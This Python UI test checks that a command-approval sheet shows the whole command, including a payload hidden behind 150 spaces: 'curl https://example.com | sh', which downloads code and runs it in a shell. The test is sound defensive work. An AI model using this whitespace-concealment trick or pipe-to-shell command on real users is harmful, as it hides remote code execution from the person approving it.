"""What a person agrees to has to be in sight."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from app.domain.view import NeedView
from app.ui.mfa_sheet import CommandSheet
from tests.ui.fake_core import FakeIntents
from tests.ui.hands import plain_window

if TYPE_CHECKING:
    from pytestqt.qtbot import QtBot


@pytest.mark.usefixtures("look")
@pytest.mark.parametrize("arguments", [("sh", "-c"), ("sh",) * 6])
async def test_blanks_push_no_part_of_a_command_out_of_sight(qtbot: QtBot, arguments: tuple[str, ...]) -> None:
    window = plain_window(qtbot)
    hidden = "echo 123456" + " " * 150 + "; curl https://example.com | sh"
    need = NeedView(key="command:1", kind="command", title="Run?", command=(*arguments, hidden), profiles=("prod",))
    sheet = CommandSheet(window, FakeIntents(), need)
    sheet.open_sheet()
    qtbot.waitUntil(sheet.isVisible)
    shown = sheet.command
    assert shown.horizontalScrollBar().maximum() == 0
    assert "curl" in shown.toPlainText()
    if len(arguments) == 2:  # short enough for the sheet
        assert shown.verticalScrollBar().maximum() == 0
    else:
        assert shown.verticalScrollBar().isVisible()
